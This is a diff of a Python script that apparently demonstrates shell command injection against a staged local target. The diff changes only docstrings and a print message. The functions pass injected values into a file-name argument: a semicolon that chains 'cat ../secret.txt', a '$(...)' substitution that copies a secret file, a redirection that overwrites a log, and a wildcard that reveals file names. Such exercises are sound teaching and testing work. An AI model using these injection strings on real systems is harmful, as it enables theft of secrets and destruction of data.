@@ -6,22 +6,22 @@ from .stage import Stage
 
 
 def attack_second_command(target: Target, stage: Stage) -> bool:
-    """End the command there, and begin another."""
+    """End the command on the server with a semicolon, then start another."""
     found = target.count_lines("web.log; cat ../secret.txt")
     print(found)
     return stage.secret in found
 
 
 def attack_substitution(target: Target, stage: Stage) -> bool:
-    """Have the name worked out there, by a command."""
+    """Have the shell on the server run a command to find out the name."""
     target.count_lines("$(cp ../secret.txt web.txt)")
     leak = stage.logs / "web.txt"
-    print("web.txt is there:", leak.exists())
+    print("web.txt exists:", leak.exists())
     return leak.exists() and leak.read_text() == stage.secret
 
 
 def attack_redirection(target: Target, stage: Stage) -> bool:
-    """Send the answer into another log, and so overwrite it."""
+    """Redirect the output into another log, which overwrites it."""
     target.count_lines("web.log>mail-2026.log")
     found = (stage.logs / "mail-2026.log").read_text()
     print("mail-2026.log:", found)
@@ -29,7 +29,7 @@ def attack_redirection(target: Target, stage: Stage) -> bool:
 
 
 def attack_wildcard(target: Target, stage: Stage) -> bool:
-    """Name all logs at once, and learn what they are called."""
+    """Use a wildcard, which the shell on the server replaces by the names of all logs."""
     found = target.count_lines("c*.log")
     print(found)
     return "customer-rossi" in found
